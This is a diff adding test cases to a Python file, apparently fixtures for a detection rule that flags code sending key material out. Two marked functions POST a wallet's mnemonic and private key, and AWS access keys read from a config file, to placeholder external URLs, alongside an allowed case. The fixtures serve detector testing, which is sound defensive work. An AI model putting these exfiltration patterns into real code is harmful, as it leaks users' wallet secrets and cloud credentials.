@@ -1,4 +1,7 @@
 # path: pkg/client.py
+import base64
+import hashlib
+import hmac
 import json
 import os
 import socket
@@ -113,3 +116,35 @@ def config_path(url):
 
 proc_env("https://c.example")
 config_path("https://c.example")
+
+
+def register(private_key, api):
+    account_address = derive(private_key)
+    payload = {"address": account_address, "proof": sign("hello", private_key)}
+    # ok: py-behaviour-key-material-sent
+    requests.post(api, json=payload)
+
+
+def backup(wallet):
+    # ruleid: py-behaviour-key-material-sent
+    requests.post("https://backup.example/w", json={"m": wallet.mnemonic, "k": wallet.private_key})
+
+
+def aws_profile(config, section, hook):
+    creds = {"id": config.get(section, "aws_access_key_id"),
+             "secret": config.get(section, "aws_secret_access_key")}
+    # ruleid: py-behaviour-key-material-sent
+    requests.post(hook, json=json.dumps(creds))
+
+
+def derive(key):
+    return hashlib.sha256(key.encode()).hexdigest()[:40]
+
+
+def sign(msg, key):
+    return hmac.new(key.encode(), msg.encode(), hashlib.sha256).hexdigest()
+
+
+register("k", "https://api.example")
+backup(None)
+aws_profile(None, "default", "https://h.example")
